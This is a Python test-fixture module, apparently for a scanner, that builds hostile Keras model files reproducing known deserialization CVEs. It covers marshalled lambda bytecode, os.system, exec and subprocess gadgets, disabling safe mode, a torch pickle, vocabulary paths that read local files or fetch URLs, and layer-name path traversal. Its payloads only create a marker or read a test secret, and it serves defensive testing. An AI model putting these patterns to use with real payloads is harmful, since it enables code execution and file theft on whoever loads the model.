"""Hostile `.keras` files whose config runs, reads or changes something when Keras loads it (security.md 2.1).

Each payload does no more than create the scene's marker, read its secret or change the float type of the process.
"""

import base64
import io
import json
import marshal
import pickle
from collections.abc import Callable
from typing import Any, Final

import h5py

from builders.hostile import Hostile, Scene
from builders.keras_configs import (
    Config,
    archive,
    called,
    dense,
    edge,
    function,
    functional,
    gadget,
    layer,
    sequential,
)

_TO_3_8: Final = frozenset(["3.8.0"])
_TO_3_10: Final = _TO_3_8 | {"3.10.0"}
_TO_3_11: Final = _TO_3_10 | {"3.11.2"}
_TO_3_13: Final = _TO_3_11 | {"3.13.1"}
_TO_3_14: Final = _TO_3_13 | {"3.14.0"}
_ALL: Final = _TO_3_14 | {"3.15.1"}
_NEVER: Final = frozenset[str]()

_AT: Final = "config.json: /config/layers/1"
_AT_FUNCTION: Final = f"{_AT}/config/function"


def _lambda(scene: Scene) -> Config:
    """A Python lambda as Keras serialises it: marshalled bytecode that creates the marker."""
    code = compile(f"lambda x: (open({str(scene.marker)!r}, 'w').close(), x)[1]", "<lambda>", "eval").co_consts[0]
    text = base64.b64encode(marshal.dumps(code)).decode()
    return {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None}}


def _with_lambda(frame: Callable[[Config], Config]) -> Callable[[Scene], bytes]:
    return lambda scene: archive(frame(_lambda(scene)))


def _with(config: Config) -> Callable[[Scene], bytes]:
    return lambda _scene: archive(config)


def _lambda_layer(code: Config) -> Config:
    return called(layer("Lambda", name="code", function=code, arguments={}, output_shape=[4]), edge("start"))


def _lambda_h5(scene: Scene) -> bytes:
    """As Keras 2 wrote it: nothing says of which module a class is, so Keras 3 takes its old way, without safe mode."""
    code = {"name": "code", "function": _lambda(scene), "arguments": {}, "output_shape": [4]}
    start = {"name": "start", "batch_shape": [None, 4], "dtype": "float32"}
    layers = [{"class_name": "InputLayer", "config": start}, {"class_name": "Lambda", "config": code}]
    config = {"class_name": "Sequential", "config": {"name": "model", "layers": layers}}
    with io.BytesIO() as target:
        with h5py.File(target, "w") as file:
            file.attrs["keras_version"], file.attrs["backend"] = "3.11.0", "tensorflow"
            file.attrs["model_config"] = json.dumps(config)
            file.create_group("model_weights").attrs["layer_names"] = []
            file["model_weights"].attrs["keras_version"] = "3.11.0"
        return target.getvalue()


def _get_file(scene: Scene) -> bytes:
    call = gadget(
        "keras.utils",
        "get_file",
        "marker",
        origin=scene.secret.as_uri(),
        cache_dir=str(scene.folder),
        cache_subdir="",
        force_download=True,
    )
    return archive(functional(call))


def _unsafe_load(scene: Scene) -> bytes:
    first = gadget(
        "keras.src.backend.common.global_state", "set_global_attribute", "safe_mode_saving", at="first", value=False
    )
    second = gadget("keras.models", "load_model", str(scene.folder / "second.keras"), at="second", safe_mode=False)
    return archive(functional(first, second))


def _torch(_scene: Scene) -> bytes:
    node = layer("TorchModuleWrapper", name="torch", module=None)
    node["config"]["module"] = {"class_name": "__bytes__", "config": base64.b64encode(pickle.dumps({})).decode()}
    return archive(functional(called(node, edge("start"))))


def _lookup(class_name: str, vocabulary: Callable[[Scene], Any], **config: Any) -> Callable[[Scene], bytes]:
    def build(scene: Scene) -> bytes:
        node = layer(class_name, name="lookup", vocabulary=vocabulary(scene), **config)
        dtype = "int64" if class_name == "IntegerLookup" else "string"
        return archive(sequential(node, shape=(None, 1), dtype=dtype))

    return build


def _text_vectorization(config: Callable[[Scene], Any]) -> Callable[[Scene], bytes]:
    return _lookup(
        "TextVectorization", config, standardize=None, split=None, ngrams=None, encoding="utf-8", max_tokens=None
    )


def _tfsm(scene: Scene) -> bytes:
    node = layer("TFSMLayer", name="foreign", filepath=str(scene.saved_model), call_endpoint="serve")
    return archive(functional(called(node, edge("start"))))


def _application(scene: Scene) -> bytes:
    return archive(functional(gadget("keras.applications", "MobileNet", [96, 96, 3], weights=str(scene.secret))))


def _state(module: str, name: str, value: Any) -> Callable[[Scene], bytes]:
    return _with(functional(gadget(module, name, value)))


def _hidden(node: Config, place: str) -> tuple[Callable[[Scene], bytes], str, str]:
    return _with(node), "function-not-allowed", place


_LAMBDAS: Final = (
    Hostile(
        "lambda-as-a-layer.keras", "CVE-2024-3660: Python code as a layer",
        _with_lambda(lambda code: functional(_lambda_layer(code))), "lambda", _AT_FUNCTION, live_in=_NEVER,
    ),
    Hostile(
        "lambda-in-a-nested-model.keras", "CVE-2024-3660: in a Sequential inside the model",
        _with_lambda(lambda code: sequential({**sequential(layer("Lambda", name="code", function=code)), "build_config": {"input_shape": [None, 4]}})),
        "lambda", f"{_AT}/config/layers/1/config/function", live_in=_NEVER,
    ),
    Hostile(
        "lambda-in-time-distributed.keras", "CVE-2024-3660: in a wrapper",
        _with_lambda(lambda code: sequential(layer("TimeDistributed", layer=layer("Lambda", function=code)), shape=(None, 5, 4))),
        "lambda", f"{_AT}/config/layer/config/function", live_in=_NEVER,
    ),
    Hostile(
        "lambda-as-output-shape.keras", "CVE-2024-3660: as the output_shape of a Lambda whose function is harmless",
        _with_lambda(lambda code: functional(called(layer("Lambda", function=function("keras.activations", "relu"), output_shape=code), edge("start")))),
        "lambda", f"{_AT}/config/output_shape", live_in=_NEVER,
    ),
    Hostile(
        "lambda-as-initializer.keras", "CVE-2024-3660: in a slot for an initializer",
        _with_lambda(lambda code: sequential(dense(kernel_initializer=code))), "lambda", f"{_AT}/config/kernel_initializer", live_in=_NEVER,
    ),
    Hostile(
        "lambda-as-activation.keras", "CVE-2024-3660: in a slot for an activation",
        _with_lambda(lambda code: sequential(dense(activation=code))), "lambda", f"{_AT}/config/activation", live_in=_NEVER,
    ),
    Hostile(
        "lambda-as-argument.keras", "CVE-2024-3660: among the arguments of a call",
        _with_lambda(lambda code: functional(called(dense(), edge("start"), code))), "lambda", f"{_AT}/inbound_nodes/0/args/1", live_in=_NEVER,
    ),
    Hostile(
        "lambda-as-loss.keras", "CVE-2024-3660: in compile_config, which some loaders read",
        _with_lambda(lambda code: {**sequential(dense()), "compile_config": {"loss": code, "optimizer": "sgd"}}),
        "lambda", "config.json: /compile_config/loss", live_in=_NEVER,
    ),
    Hostile(
        "lambda-in-build-config.keras", "CVE-2024-3660: in build_config",
        _with_lambda(lambda code: sequential({**dense(), "build_config": {"input_shape": code}})), "lambda", f"{_AT}/build_config/input_shape", live_in=_NEVER,
    ),
    Hostile(
        "lambda-for-from-config.keras", "CVE-2026-12481: Lambda.from_config outside of a loader has no safe mode",
        _with_lambda(lambda code: functional(_lambda_layer(code))), "class-runs-code", _AT, live_in=_TO_3_14,
    ),
    Hostile("lambda-in-h5.h5", "CVE-2025-9905: .h5 files had no safe mode", _lambda_h5, "format-hdf5", "byte 0", live_in=_TO_3_11),
)  # fmt: skip

_GADGETS: Final = (
    Hostile(
        "os-system.keras", "CVE-2025-1550: any function of any module",
        lambda scene: archive(functional(gadget("os", "system", f"touch '{scene.marker}'"))), "function-not-allowed", _AT_FUNCTION, live_in=_TO_3_8,
    ),
    Hostile(
        "builtins-exec.keras", "CVE-2025-1550: exec",
        lambda scene: archive(functional(gadget("builtins", "exec", f"open({str(scene.marker)!r}, 'w').close()"))), "function-not-allowed", _AT_FUNCTION, live_in=_TO_3_8,
    ),
    Hostile(
        "subprocess-run.keras", "CVE-2025-1550: a process",
        lambda scene: archive(functional(gadget("subprocess", "run", ["touch", str(scene.marker)]))), "function-not-allowed", _AT_FUNCTION, live_in=_TO_3_8,
    ),
    Hostile("get-file.keras", "CVE-2025-8747: a file is copied to a place of the attacker's choice", _get_file, "function-not-allowed", _AT_FUNCTION, live_in=_TO_3_10),
    Hostile(
        "set-global-attribute.keras", "CVE-2025-9906: safe mode is switched off while the model is loaded",
        _with(functional(gadget("keras.src.backend.common.global_state", "set_global_attribute", "safe_mode_saving", value=False))),
        "function-not-allowed", _AT_FUNCTION, live_in=_TO_3_10,
    ),
    Hostile(
        "enable-unsafe-deserialization.keras", "CVE-2025-9906: the same by its public name",
        _with(functional(called(layer("Lambda", name="gadget", function=function("keras.config", "enable_unsafe_deserialization"), output_shape=[3])))),
        "function-not-allowed", _AT_FUNCTION,
    ),
    Hostile("load-model-unsafe.keras", "CVE-2025-9906: then another model is loaded without safe mode", _unsafe_load, "function-not-allowed", "config.json: /config/layers/2/config/function", live_in=_TO_3_10),
    Hostile("torch-module-wrapper.keras", "CVE-2025-49655: a pickle given to torch.load", _torch, "class-runs-code", _AT),
    Hostile("tfsm-layer.keras", "CVE-2026-1462: a SavedModel from any path", _tfsm, "class-runs-code", _AT, live_in=_TO_3_13),
    Hostile("jax-layer.keras", "a layer of JAX functions", _with(sequential(layer("JaxLayer", call_fn=function("os", "getcwd")))), "class-runs-code", _AT),
    Hostile("flax-layer.keras", "a layer of a Flax module", _with(sequential(layer("FlaxLayer", module=None))), "class-runs-code", _AT),
    Hostile("set-floatx.keras", "no CVE: the float type of the whole process changes", _state("keras.config", "set_floatx", "float16"), "function-not-allowed", _AT_FUNCTION, live_in=_ALL),
    Hostile("set-dtype-policy.keras", "no CVE: the dtype policy of the whole process changes", _state("keras.config", "set_dtype_policy", "float64"), "function-not-allowed", _AT_FUNCTION, live_in=_ALL),
    Hostile("set-image-data-format.keras", "no CVE: the axis of channels changes for the whole process", _state("keras.config", "set_image_data_format", "channels_first"), "function-not-allowed", _AT_FUNCTION, live_in=_ALL),
    Hostile("set-random-seed.keras", "no CVE: every random number of the process becomes known", _state("keras.utils", "set_random_seed", 7), "function-not-allowed", _AT_FUNCTION, live_in=_ALL),
    Hostile("set-max-epochs.keras", "no CVE: training in the whole process is bounded", _state("keras.config", "set_max_epochs", 1), "function-not-allowed", _AT_FUNCTION, live_in=_ALL - {"3.8.0"}),
    Hostile("datasets-download.keras", "no CVE: an outbound download while the model is loaded", _state("keras.datasets.mnist", "load_data", "not-there.npz"), "function-not-allowed", _AT_FUNCTION, live_in=_ALL),
    Hostile("keras-file-editor.keras", "no CVE: opens any path as a Keras file", lambda scene: archive(functional(gadget("keras.saving", "KerasFileEditor", str(scene.secret)))), "function-not-allowed", _AT_FUNCTION),
    Hostile("keras-file-editor-as-a-layer.keras", "no CVE: the same as a class", lambda scene: archive(sequential(layer("KerasFileEditor", module="keras.saving", filepath=str(scene.secret)))), "class-not-allowed", _AT),
    Hostile("application-with-weights.keras", "no CVE: an architecture that reads its weights from a path", _application, "function-not-allowed", _AT_FUNCTION),
    Hostile("gadget-as-activation.keras", "no CVE: set_floatx in a slot for an activation", *_hidden(sequential(dense(activation=function("keras.config", "set_floatx"))), f"{_AT}/config/activation")),
    Hostile("gadget-as-initializer.keras", "no CVE: set_floatx in a slot for an initializer", *_hidden(sequential(dense(bias_initializer=function("keras.config", "set_floatx"))), f"{_AT}/config/bias_initializer")),
    Hostile("gadget-as-loss.keras", "os.getcwd as a loss", *_hidden({**sequential(dense()), "compile_config": {"loss": function("os", "getcwd")}}, "config.json: /compile_config/loss")),
    Hostile("gadget-as-split.keras", "os.getcwd as the split of a TextVectorization", _with(sequential(layer("TextVectorization", split=function("os", "getcwd")))), "function-not-allowed", f"{_AT}/config/split"),
    Hostile("function-by-registered-name.keras", "registered_name smuggling (#22729): a built-in name, another object", _with(sequential(dense(activation={**function("builtins", "relu"), "registered_name": "package>other"}))), "registered-name", f"{_AT}/config/activation"),
    Hostile("layer-by-registered-name.keras", "registered_name smuggling (#22729) for a layer", _with(sequential({**dense(), "registered_name": "package>Other"})), "registered-name", _AT),
    Hostile("custom-layer.keras", "a class from a module of the attacker's", _with(sequential(layer("Mine", module="my_package.layers"))), "class-not-allowed", _AT),
    Hostile("inner-module.keras", "a class of Keras by a path that is not its public one", _with(sequential(layer("Wrapper", module="keras.src.layers.core.wrapper"))), "class-not-allowed", _AT),
    Hostile("operation-that-takes-a-function.keras", "keras.ops.map calls what it is given", _with(functional(called(layer("Map", module="keras.src.ops.core", name="map"), function("os", "getcwd"), edge("start")))), "class-not-allowed", _AT),
    Hostile("typespec.keras", "__typespec__ looks a class up by name", _with(sequential(dense(dtype={"class_name": "__typespec__", "config": [], "module": "os", "spec_name": "x"}))), "form-not-allowed", f"{_AT}/config/dtype"),
    Hostile("tensor-of-objects.keras", "a constant of dtype object", _with(functional(called(dense(), {"class_name": "__numpy__", "config": {"value": [1], "dtype": "object"}}))), "form-malformed", f"{_AT}/inbound_nodes/0/args/0"),
)  # fmt: skip

_PATHS: Final = (
    Hostile("string-lookup-path.keras", "CVE-2025-12058: the vocabulary is a file of the server", _lookup("StringLookup", lambda scene: str(scene.secret)), "vocabulary", f"{_AT}/config/vocabulary", live_in=_TO_3_11),
    Hostile("integer-lookup-url.keras", "CVE-2025-12058: the vocabulary is fetched", _lookup("IntegerLookup", lambda _scene: "http://localhost:9/v"), "vocabulary", f"{_AT}/config/vocabulary"),
    Hostile("text-vectorization-bucket.keras", "CVE-2025-12058: the vocabulary lies in a bucket", _text_vectorization(lambda _scene: "gs://bucket/v"), "vocabulary", f"{_AT}/config/vocabulary"),
    Hostile("text-vectorization-path.keras", "CVE-2025-12058: the vocabulary is a file of the server", _text_vectorization(lambda scene: str(scene.secret)), "vocabulary", f"{_AT}/config/vocabulary", live_in=_TO_3_11),
    Hostile("vocabulary-in-a-list.keras", "CVE-2025-12058: the path is hidden in a list of lists", _lookup("StringLookup", lambda scene: [[str(scene.secret)]]), "vocabulary", f"{_AT}/config/vocabulary"),
    Hostile("layer-name-traversal.keras", "CVE-2026-12479: a layer's name is a part of a path", _with(sequential(dense(name="../../x"))), "name", f"{_AT}/config/name"),
    Hostile("layer-name-absolute.keras", "CVE-2026-12479: an absolute path", lambda scene: archive(sequential(dense(name=str(scene.marker)))), "name", f"{_AT}/config/name"),
    Hostile("stateful-rnn.keras", "one request's rows change the answer to the next", _with(sequential(layer("LSTM", units=3, stateful=True), shape=(1, 5, 4))), "stateful", f"{_AT}/config/stateful"),
)  # fmt: skip

CODE: Final = (*_LAMBDAS, *_GADGETS, *_PATHS)
